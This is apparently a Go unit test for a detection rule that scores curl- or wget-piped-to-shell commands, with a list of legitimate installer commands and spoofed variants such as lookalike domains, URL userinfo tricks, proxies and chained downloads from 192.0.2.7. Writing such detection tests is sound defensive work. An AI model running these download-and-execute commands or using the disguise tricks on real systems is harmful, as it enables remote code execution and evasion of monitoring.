package rules_test

import (
	"testing"
	"time"

	"github.com/holdfast-security/holdfast/detect"
	"github.com/holdfast-security/holdfast/detect/fields"
	"github.com/holdfast-security/holdfast/event"
	"github.com/holdfast-security/holdfast/finding"
)

// TestInstallersAreLowForPeopleAlone holds what a download into a shell is worth:
// little only where somebody at a terminal runs the installer of a well-known
// program and nothing else, whatever is made to look like that.
func TestInstallersAreLowForPeopleAlone(t *testing.T) {
	const known = "https://raw.githubusercontent.com/nvm-sh/nvm/v0.40.3/install.sh"
	set := ruleset(t)
	for _, c := range []struct {
		text, terminal string
		entry          event.EntryKind
		want           finding.Severity
	}{
		{"curl -o- " + known + " | bash", "pts0", event.EntrySSH, finding.Low},
		{"curl -fsSL 'https://get.docker.com' | sudo sh", "tty1", event.EntryConsole, finding.Low},
		{"curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh", "pts0", event.EntryUnknown, finding.Low},
		{"wget -qO- https://deb.nodesource.com/setup_22.x | sudo -E bash -", "pts0", event.EntrySSH, finding.Low},
		{"curl -o- " + known + " | bash", "", event.EntrySSH, finding.Medium},
		{"curl -o- " + known + " | bash", "pts0", event.EntryService, finding.Medium},
		{"curl -o- " + known + " | bash", "pts0", event.EntryContainer, finding.Medium},
		{"curl http://get.docker.com | sh", "pts0", event.EntrySSH, finding.Medium},
		{"curl -k https://get.docker.com | sh", "pts0", event.EntrySSH, finding.Medium},
		{"curl -x 192.0.2.7:80 https://get.docker.com | sh", "pts0", event.EntrySSH, finding.Medium},
		{"curl https://get.docker.com.example.net | sh", "pts0", event.EntrySSH, finding.Medium},
		{"curl https://get.docker.com@192.0.2.7/x | sh", "pts0", event.EntrySSH, finding.Medium},
		{"curl https://get.docker.com https://192.0.2.7/x | sh", "pts0", event.EntrySSH, finding.Medium},
		{"curl https://raw.githubusercontent.com/nvm-sh/nvm/master/../../../x/y/z.sh | sh", "pts0", event.EntrySSH, finding.Medium},
		{"curl https://raw.githubusercontent.com/nvm-sh/nvm/4f1c2a9/install.sh | sh", "pts0", event.EntrySSH, finding.Medium},
		{"curl https://192.0.2.7/x | sh # " + known, "pts0", event.EntrySSH, finding.Medium},
		{"curl " + known + " | sh; curl https://192.0.2.7/x | sh", "pts0", event.EntrySSH, finding.Medium},
		{"curl " + known + " | /tmp/bash", "pts0", event.EntrySSH, finding.Medium},
	} {
		p := &event.Process{
			PID: 9, Name: "sh", Executable: &event.File{Path: "/usr/bin/dash"}, Arguments: []string{"sh", "-c", c.text}, CommandLine: "sh -c " + c.text,
			Terminal: c.terminal, Entry: event.EntryPoint{Kind: c.entry}, User: event.User{UID: 1000, Name: "ann"},
		}
		ev := &event.Event{
			Time: time.Date(2026, 3, 1, 12, 0, 0, 0, time.UTC), Class: event.ClassProcessActivity, Activity: event.ProcessLaunch,
			Source: event.SourceAudit, Status: event.StatusSuccess, Process: p,
		}
		raised, worst := 0, finding.Informational
		matcher := set.NewMatcher(detect.Limits{})
		fields.NewMapper(set).Each(ev, func(d *detect.Document) {
			matcher.Match(d, func(m detect.Match) {
				if m.Rule.Holdfast.AlertType == "VM_DownloadAndRunCombo" {
					raised, worst = raised+1, max(worst, m.Rule.Level.Severity())
				}
			})
		})
		if raised != 1 || worst != c.want {
			t.Errorf("%q at %q from %q raises %d alerts, at worst %v, want one of %v", c.text, c.terminal, c.entry, raised, worst, c.want)
		}
	}
}
